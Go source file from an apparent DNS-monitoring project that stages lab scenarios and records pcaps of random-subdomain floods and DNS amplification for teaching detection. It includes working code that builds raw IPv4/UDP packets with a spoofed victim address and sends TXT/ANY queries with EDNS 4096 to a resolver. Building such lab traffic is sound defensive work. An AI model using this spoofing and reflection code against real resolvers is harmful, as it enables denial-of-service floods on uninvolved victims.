//go:build linux

package scenario

import (
	"context"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
	"time"

	"github.com/dnssniff/dnssniff/pcaps/lab/netns"
	"github.com/dnssniff/dnssniff/pcaps/lab/server"
	"github.com/dnssniff/dnssniff/pcaps/lab/stage"
	"github.com/dnssniff/dnssniff/pcaps/lab/zone"
	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// abuseIncidents are attacks.
func abuseIncidents() []incident {
	return []incident{
		{
			name: "random-subdomains", ending: "pcap.gz", title: "a flood of random subdomains through a resolver",
			teaches: "that NXDOMAIN for ever new names of one zone, each a cache miss, is an attack on the zone's servers",
			played: `Twenty-four devices use Unbound; captured at the resolver, both sides. From some moment on five of them, infected, ask for random labels of 8 to 12 letters below games.example, some twenty a second, for fourteen seconds: all NXDOMAIN, none
				asked twice. They go on with their own lookups, too.`,
			cause: "random-subdomain-flood", scope: map[string]string{"zone": "games.example."},
			world: stage.World{Clients: 24}, crowd: crowd{rate: 4}, length: 32 * time.Second, onset: 12 * time.Second, breaks: infected,
		},
		{
			name: "random-subdomains-authoritative", title: "a flood of random subdomains, as the zone's server sees it",
			teaches: "that the sources of such a flood are resolvers, which are not to be blocked",
			played: `Twenty-four resolvers ask PowerDNS for names in video.example and weather.example; captured at the server. From some moment on all of them bring random labels below video.example, some thirty a second, for twelve seconds: all NXDOMAIN. The
				sources are the same resolvers as before; their other queries go on.`,
			cause: "random-subdomain-flood", scope: map[string]string{"zone": "video.example."},
			at: "powerdns", alone: true, cast: resolversOnly,
			crowd:  crowd{hosts: []string{"resolvers"}, habits: recursives(), to: "powerdns", errand: recursion, rate: 6, names: namesAt("powerdns")},
			length: 34 * time.Second, onset: 13 * time.Second,
			breaks: func(ctx context.Context, s *stage.Stage) error {
				return crowd{hosts: []string{"resolvers"}, habits: recursives(), to: "powerdns", rate: 30, salt: 5, errand: random("video.example.")}.talk(ctx, s, 12*time.Second)
			},
		},
		{
			name: "amplification", ending: "pcap.gz", title: "an open resolver that is made to flood a victim",
			teaches: "that one client with one large question over and over, from changing ports, is no client but a victim",
			played: `Twenty devices of 10.53.1.0/24 use Unbound, which answers everybody with up to 4096 bytes; captured at the resolver. From some moment on somebody elsewhere sends it queries for TXT and ANY of example.com, EDNS 4096, with the address of
				192.0.2.66 as source, nine a second for sixteen seconds: 40 bytes of question, 1800 of answer. The victim's host answers with ICMP port unreachable, as often as Linux lets it.`,
			cause: "amplification-abuse", scope: map[string]string{"client": "192.0.2.66"},
			world: stage.World{Clients: 20, NoAnchor: true, Zones: []zone.Zone{amplifier()}, Configs: map[string]server.Config{
				"resolver": {Extra: "  max-udp-size: 4096\n"}, "bind": {Extra: "max-udp-size 4096;"},
			}},
			cast: amplificationCast, crowd: crowd{rate: 4}, length: 32 * time.Second, onset: 10 * time.Second, breaks: reflect,
		},
	}
}

// random is the errand of a bot: a name that nobody asked for before.
func random(zone string) errand {
	return func(r *rand.Rand, _ *device, _ string) (string, []uint16) {
		return letters(r, 8+r.IntN(5)) + "." + zone, []uint16{dns.TypeA}
	}
}

// infected are five clients with a bot each, that waits a second for an answer and does not care.
func infected(ctx context.Context, s *stage.Stage) error {
	bot := habit{name: "bot", rd: true, sizes: []uint16{0}, waits: seconds(1), each: true}
	r := rand.New(rand.NewPCG(s.Net.Seed, 44))
	var bots []*device
	for _, d := range (crowd{habits: []habit{bot}}).devices(s) {
		if d.from.Is4() && len(bots) < 5 {
			bots = append(bots, d)
		}
	}
	next := random("games.example.")
	return poisson(ctx, r, 20, 14*time.Second, func() {
		d := bots[r.IntN(len(bots))]
		name, types := next(r, d, "")
		s.Go(func() error { return d.look(ctx, name, types) })
	})
}

// amplifier is example.com with all the records at its apex that services ask domains to have.
func amplifier() zone.Zone {
	z, _ := stage.Zones().Find("example.com.")
	z.Records, z.Signing = z.Records+verifications(), zone.Unsigned
	return z
}

// verifications are eighteen TXT records at a zone's apex.
func verifications() string {
	var b strings.Builder
	for i := range 18 {
		fmt.Fprintf(&b, "@ TXT \"service%02d-domain-verification=%s\"\n", i, strings.Repeat("4d6f7265", 7))
	}
	return b.String()
}

func amplificationCast(_ context.Context, s *stage.Stage) error {
	for name, addr := range map[string]string{"victim": "192.0.2.66/28", "bot": "192.0.2.82/28"} {
		if _, err := s.Host(name, addr); err != nil {
			return err
		}
	}
	return nil
}

// reflect sends queries in the victim's name to the resolver.
func reflect(ctx context.Context, s *stage.Stage) error {
	return forge(ctx, s, netip.MustParseAddr(stage.ResolverIPv4), "example.com.", 9, 16*time.Second, 55)
}

// forge sends queries for a zone's TXT and ANY in the victim's name, rate a second.
func forge(ctx context.Context, s *stage.Stage, to netip.Addr, zone string, rate float64, length time.Duration, salt uint64) error {
	fd, err := rawSocket(s.Hosts["bot"])
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	r := rand.New(rand.NewPCG(s.Net.Seed, salt))
	victim := s.Hosts["victim"].IPv4()
	var failed error
	err = poisson(ctx, r, rate, length, func() {
		q := new(dns.Msg).SetQuestion(zone, []uint16{dns.TypeTXT, dns.TypeANY}[r.IntN(2)])
		q.SetEdns0(4096, false)
		b, err := q.Pack()
		if err == nil {
			err = unix.Sendto(fd, datagram(netip.AddrPortFrom(victim, uint16(1024+r.IntN(64000))), netip.AddrPortFrom(to, 53), b), 0, &unix.SockaddrInet4{Addr: to.As4()})
		}
		if err != nil {
			failed = err
		}
	})
	if err == nil {
		err = failed
	}
	return err
}

// rawSocket sends IPv4 packets with any source.
func rawSocket(h *netns.Host) (fd int, err error) {
	err = h.Do(func() error {
		var err error
		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
		return err
	})
	return fd, err
}

// datagram is an IPv4 packet with UDP in it. The kernel fills in the header's checksum and ID.
func datagram(from, to netip.AddrPort, payload []byte) []byte {
	src, dst := from.Addr().As4(), to.Addr().As4()
	b := []byte{0x45, 0, 0, 0, 0, 0, 0, 0, 57, unix.IPPROTO_UDP, 0, 0}
	b = append(append(b, src[:]...), dst[:]...)
	b = binary.BigEndian.AppendUint16(b, from.Port())
	b = binary.BigEndian.AppendUint16(b, to.Port())
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(payload)))
	b = append(append(b, 0, 0), payload...)
	binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
	binary.BigEndian.PutUint16(b[26:], udpChecksum(src, dst, b[20:]))
	return b
}

// udpChecksum is that of RFC 768, over the pseudo-header and a datagram whose checksum is 0.
func udpChecksum(src, dst [4]byte, udp []byte) uint16 {
	sum := uint32(unix.IPPROTO_UDP + len(udp))
	for _, part := range [][]byte{src[:], dst[:], udp} {
		for i, c := range part {
			sum += uint32(c) << (8 * (1 - i%2))
		}
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	if sum == 0xffff {
		return 0xffff
	}
	return ^uint16(sum)
}
